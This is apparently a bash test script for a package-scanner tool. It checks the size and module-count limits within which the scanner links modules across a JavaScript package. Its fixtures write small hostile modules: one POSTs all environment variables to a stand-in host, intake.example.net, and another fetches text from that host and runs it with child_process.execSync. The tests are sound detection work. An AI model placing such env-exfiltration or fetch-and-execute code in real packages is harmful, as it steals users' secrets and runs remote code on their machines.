#!/bin/bash
# Modules of one package read together (scanner/content/join.h): its ceilings, each on both sides. Past one, each module is read by itself.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR # the built-in packs

# begin: a package whose entry point sends what another module collects; neither says so alone.
begin() {
	rm -rf p
	mkdir p
	echo '{"name":"@example/p","version":"1.0.0","main":"index.js"}' >p/package.json
	echo "const c = require('./collect'); fetch('https://intake.example.net', { method: 'POST', body: c() })" >p/index.js
	echo "module.exports = () => JSON.stringify(process.env)" >p/collect.js
}
# grown FILE BYTES: with a comment behind it; more FILE: by one byte
grown() { printf '//%*s' $(($2 - $(stat -c %s "p/$1") - 2)) '' >>"p/$1"; }
more() { printf x >>"p/$1"; }
# passed N: so many modules that pass it on, each a little longer than a module that brings a way to somewhere
passed() {
	local i
	for ((i = 1; i <= $1; i++)); do
		echo "module.exports = require('./pass$((i + 1))')" >"p/pass$i.js"
	done
	echo "module.exports = require('./collect')" >"p/pass$1.js"
	sed -i 's/collect/pass1/' p/index.js
}
joined() { scanner scan --format json p >out || true; grep -q L2-NETEX-001 out; }

begin
say "two modules are read together" joined
# JOIN_FILE_MAX
grown collect.js $((32 << 10))
say "one of 32 KiB too" joined
more collect.js
say "one byte more is a bundle" not joined

begin
passed 1
# JOIN_PASS_MAX
grown pass1.js $((8 << 10))
say "8 KiB may stand between them" joined
more pass1.js
say "one byte more may not" not joined

begin
# JOIN_SMALL_MAX
passed 14
say "16 modules of a small package are all followed" joined
begin
passed 15
say "of a larger one those are that stand beside what does something" not joined

begin
# JOIN_FILES_MAX
for ((i = 0; i < 22; i++)); do
	echo "require('./collect')" >"p/user$i.js"
done
say "24 modules are read together" joined
echo "require('./collect')" >p/user22.js
say "25 are not" not joined

begin
# JOIN_BYTES_MAX
for i in 1 2 3 4 5 6 7; do
	echo "require('./collect')" >p/user$i.js
	grown user$i.js 8192
done
grown index.js 4096
grown collect.js 4096
say "64 KiB are read together" joined
more collect.js
say "one byte more is not" not joined

begin
# JOIN_HOME_MAX
mkdir p/more
passed 1
for ((i = 0; i < 61; i++)); do
	echo 1 >p/more/$i.js
done
say "of 64 modules all are asked whom they ask" joined
echo 1 >p/more/61.js
say "of 65 those that do something" not joined

# JOIN_DATA_MAX: of a table in which lies where it is sent to
begin
printf '{"to":"https://intake.example.net"}' >p/table.json
echo "const c = require('./collect'), t = require('./table.json'); fetch(t.to, { method: 'POST', body: c() })" >p/index.js
spaces() { printf "%*s" $(($1 - $(stat -c %s p/table.json))) '' >>p/table.json; }
say "a table is known" joined
spaces $((32 << 10))
say "one of 32 KiB too" joined
printf ' ' >>p/table.json
say "of one byte more it is not known what is in it" not joined
begin
printf '}) ({' >p/table.json
echo "const c = require('./collect'); fetch('https://intake.example.net', { method: 'POST', body: c() }); require('./table.json')" >p/index.js
say "what is no JSON is not put in" joined

# JOIN_WAY_MAX: of one that brings a way to a program
begin
echo "const { run } = require('./collect'); fetch('https://intake.example.net').then(r => r.text()).then(t => run(t))" >p/index.js
echo "exports.run = require('child_process').execSync" >p/collect.js
ways() { scanner scan --format json p >out || true; grep -q L2-POST-001 out; }
grown collect.js 2048
say "a way of 2 KiB is one" ways
more collect.js
say "one byte more, and it is not" not ways
